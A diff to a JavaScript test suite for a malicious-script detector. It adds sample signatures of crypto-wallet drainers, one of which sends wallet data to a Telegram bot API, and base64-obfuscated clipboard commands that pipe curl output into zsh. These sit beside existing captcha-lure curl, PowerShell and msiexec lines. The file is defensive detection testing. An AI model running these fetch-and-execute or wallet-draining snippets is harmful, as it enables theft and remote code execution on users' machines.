@@ -83,6 +83,16 @@ describe('§2.5.13 the signatures of malicious scripts', () => {
       `navigator.clipboard.writeText(atob('${btoa('https://x.example/invite')}'))`,
     ],
     [
+      'a drainer of crypto wallets',
+      'let minimalDrainValue = 0.001; let eth_enabled = true; let multipliers = { SEAPORT: 1 }',
+      "let minimalValue = 0.001; ethereum.request({ method: 'eth_requestAccounts' }); pool.toDrain(items)",
+    ],
+    [
+      'a drainer of crypto wallets that reports to a messenger',
+      "nft.setApprovalForAll(owner, true); fetch('https://api.telegram.org/bot1:a/sendMessage', { body: wallet })",
+      "mint(1); fetch('https://api.telegram.org/bot1:a/sendMessage', { body: wallet })",
+    ],
+    [
       'an address that is spelt by character codes',
       `var e = document.createElement(String.fromCharCode(${SCRIPT})); e.src = String.fromCharCode(${ADDRESS})`,
       `const API = String.fromCharCode(${ADDRESS}); const e = document.createElement('script'); e.src = API`,
@@ -107,6 +117,8 @@ describe('§2.5.13 the signatures of malicious scripts', () => {
       `cmd /c "curl https://x.example/a | sh # verification ID: 123"`,
       '& ([scriptblock]::Create((irm https://x.example/a))) # powershell, captcha verification',
       'msiexec /i https://x.example/a.msi /qn # I am not a robot',
+      'echo "Y3VybA==" | base64 -D | zsh',
+      "curl -kfsSL $(echo 'aHR0cHM6Ly94'|base64 -D)|zsh",
     ])
       assert.ok(copied(concealed), concealed);
     for (const installer of [
@@ -116,6 +128,7 @@ describe('§2.5.13 the signatures of malicious scripts', () => {
       '& ([scriptblock]::Create((irm "https://tool.example/"))) # in powershell',
       'curl -fsSL https://bun.sh/install | bash',
       'curl -LsSf https://astral.sh/uv/install.sh | sh',
+      'export PASSWORD=$(kubectl get secret a | base64 --decode)',
     ])
       assert.ok(!copied(installer), installer);
   });
